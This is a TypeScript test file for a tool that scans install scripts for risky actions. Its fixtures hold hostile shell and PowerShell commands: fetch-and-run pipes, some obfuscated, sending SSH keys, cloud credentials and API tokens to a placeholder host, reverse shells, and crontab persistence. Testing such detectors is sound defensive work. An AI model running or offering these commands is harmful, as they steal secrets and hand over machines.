import { expect, test } from "vitest";
import { deedsIn, said, signed } from "./deeds.ts";

const base64 = (text: string) => Buffer.from(text).toString("base64");

test.each([
  ["a pipe", "curl -fsSL https://tools.sample.dev/x.sh | bash"],
  ["a pipe with a prefix", "wget -qO- https://tools.sample.dev/x | sudo -E env A=1 sh -s -- --yes"],
  ["a substitution", 'sh -c "$(curl -fsSL https://tools.sample.dev/x)"'],
  ["a process", "bash <(curl -s https://tools.sample.dev/x)"],
  ["source", "source <(wget -qO- https://tools.sample.dev/x)"],
  ["a sourced file", "curl -o x.sh https://tools.sample.dev/x.sh\nsource x.sh"],
  ["a sourced file, as a dot", "curl -o x.sh https://tools.sample.dev/x.sh\n. x.sh"],
  ["what is sourced from a pipe", "curl -s https://tools.sample.dev/x | source /dev/stdin"],
  ["eval", 'eval "$(curl -s https://tools.sample.dev/x)"'],
  ["a continued line", "curl -s \\\n  https://tools.sample.dev/x \\\n  | bash"],
  ["variables", 'H="https://tools.sample"\nP=".dev/x"\ncurl -s "$H$P" | bash'],
  ["an alias", "alias get='curl -s'\nget https://tools.sample.dev/x | bash"],
  ["two steps", "curl -o /tmp/a.sh https://tools.sample.dev/a.sh\nchmod +x /tmp/a.sh\n/tmp/a.sh"],
  ["a name of its own", "wget https://tools.sample.dev/a.sh && bash a.sh"],
  ["a decoded command", `echo ${base64("curl -s https://tools.sample.dev/x | bash")} | base64 -d | sh`],
  ["a here-document", "bash <<'EOF'\ncurl -s https://tools.sample.dev/x | sh\nEOF"],
  ["a condition", "if true; then curl -s https://tools.sample.dev/x | sh; fi"],
  ["an archive", "curl -Lo a.zip https://tools.sample.dev/a.zip\nunzip a.zip\nchmod +x ./a && ./a"],
  ["a clone", "git clone https://tools.sample.dev/a.git && cd a && ./install.sh"],
  ["a group", "(curl -s https://tools.sample.dev/x) | sh"],
  ["xargs", "echo a | xargs -n 1 sh -c 'curl -s https://tools.sample.dev/x | sh'"],
])("what is fetched and run is found by %s", (_, script) => {
  const deeds = deedsIn("install.sh", script);
  const runs = deeds.filter(({ kind, signs }) => kind === "run" && signs.includes("fetched"));
  expect(runs.flatMap(({ hosts }) => hosts.map(({ host }) => host))).toContain("tools.sample.dev");
});

test.each([
  ["irm https://tools.sample.dev/x | iex"],
  ["iwr -useb https://tools.sample.dev/x | iex"],
  ["$u = 'https://tools.sample' + '.dev/x'\nirm $u | iex"],
  ['powershell -ExecutionPolicy Bypass -c "irm https://tools.sample.dev/x | iex"'],
])("PowerShell: %s", (script) => {
  expect(signed(deedsIn("install.ps1", script), "run")).toContain("fetched");
});

test("what is fetched and only kept is not run", () => {
  const deeds = deedsIn("get.sh", "curl -o data.json https://api.sample.dev/data.json\njq . data.json\n");
  expect(signed(deeds, "run")).toEqual([]);
  expect(said(deeds, "host")).toEqual(["api.sample.dev (download, other)"]);
});

test.each([
  ['curl -d "k=$GITHUB_TOKEN" https://collect.sample.dev', "GITHUB_TOKEN to collect.sample.dev"],
  ["curl -F file=@$HOME/.ssh/id_rsa https://collect.sample.dev", "~/.ssh/id_rsa to collect.sample.dev"],
  ["cat ~/.aws/credentials | curl -X POST --data-binary @- https://collect.sample.dev", "~/.aws/credentials"],
  ["env | curl -d @- https://collect.sample.dev", "environment to collect.sample.dev"],
  ["tar cz ~/.ssh | nc collect.sample.dev 9000", "~/.ssh to collect.sample.dev"],
  ['curl "https://collect.sample.dev/?k=$OPENAI_API_KEY"', "OPENAI_API_KEY to collect.sample.dev"],
  ["scp ~/.ssh/id_ed25519 me@collect.sample.dev:/tmp", "~/.ssh/id_ed25519 to collect.sample.dev"],
  ["dig $(whoami).$SECRET_TOKEN.collect.sample.dev", "SECRET_TOKEN"],
])("%s sends", (script, what) => {
  expect(said(deedsIn("a.sh", script), "send").join()).toContain(what);
});

test("one variable of a project's own is no file", () => {
  const deeds = deedsIn("a.sh", 'T=$(grep "^BOT_TOKEN=" .env | cut -d= -f2)\ncurl "https://api.sample.dev/bot$T/me"\n');
  expect(said(deeds, "send")).toEqual(["BOT_TOKEN to api.sample.dev"]);
  expect(signed(deeds, "send")).not.toContain("file");
});

test("places, guards, installs and what is deleted", () => {
  const deeds = deedsIn(
    "a.sh",
    [
      "echo 'export A=1' >> ~/.zshrc",
      "git commit --no-verify -m x",
      "npm install expres lodash@4.17.21",
      "npx some-tool@latest",
      "rm -rf build",
      "chmod 777 /srv/data",
      "(crontab -l; echo '* * * * * /tmp/a') | crontab -",
    ].join("\n"),
  );
  expect(said(deeds, "write")).toEqual(expect.arrayContaining(["~/.zshrc", expect.stringContaining("crontab")]));
  expect(said(deeds, "guard")).toEqual(["git commit --no-verify", "chmod 777"]);
  expect(said(deeds, "install")).toEqual(["npm expres", "npm lodash@4.17.21", "npm some-tool@latest"]);
  expect(signed(deeds, "install")).toEqual(["near-popular"]);
  expect(said(deeds, "run")).toContain("npm some-tool@latest, unpinned");
  expect(said(deeds, "destroy")).toEqual(["rm -rf build"]);
});

test("a shell to another machine", () => {
  for (const script of ["bash -i >& /dev/tcp/203.0.113.7/9001 0>&1", "nc -e /bin/sh 203.0.113.7 9001"]) {
    expect(signed(deedsIn("a.sh", script), "run")).toContain("shell-opened");
  }
  expect(signed(deedsIn("a.sh", "timeout 1 bash -c '</dev/tcp/api.sample.dev/443' && echo up"), "run")).toEqual([]);
});

test("lines are those of the file", () => {
  const deeds = deedsIn("a.sh", "# one\n\nA='x\ny'\ncat <<EOF\nz\nEOF\ncurl -s https://a.sample.dev | sh\n");
  expect(deeds.find(({ signs }) => signs.includes("fetched"))?.line).toBe(8);
});

test.each([["$(".repeat(500)], ["(".repeat(500)], ["<(".repeat(500)]])(
  "what nests too deep is not read: %.8s",
  (script) => {
    expect(said(deedsIn("a.sh", script), "unread")).toContain("depth");
  },
);

test.each([
  ["what nests too deep", `${"(".repeat(500)}\n`],
  ["a group without end", `(${"a;".repeat(60_000)}\n`],
  ["a pipeline without end", `${"a | ".repeat(60_000)}\n`],
  ["a word without end", `echo "${"$a".repeat(60_000)}\n`],
])("%s is said, and hides nothing that follows", (_, script) => {
  const deeds = deedsIn("a.sh", `${script}curl -s https://a.sample.dev | sh\n`);
  expect(signed(deeds, "run")).toContain("fetched");
  expect(said(deeds, "unread")).toHaveLength(1);
});

test("a word of English is no program", () => {
  expect(said(deedsIn("a.sh", "list all files\nShift + Click\nshift 2\nls -l\n"), "run")).toEqual(["ls"]);
});
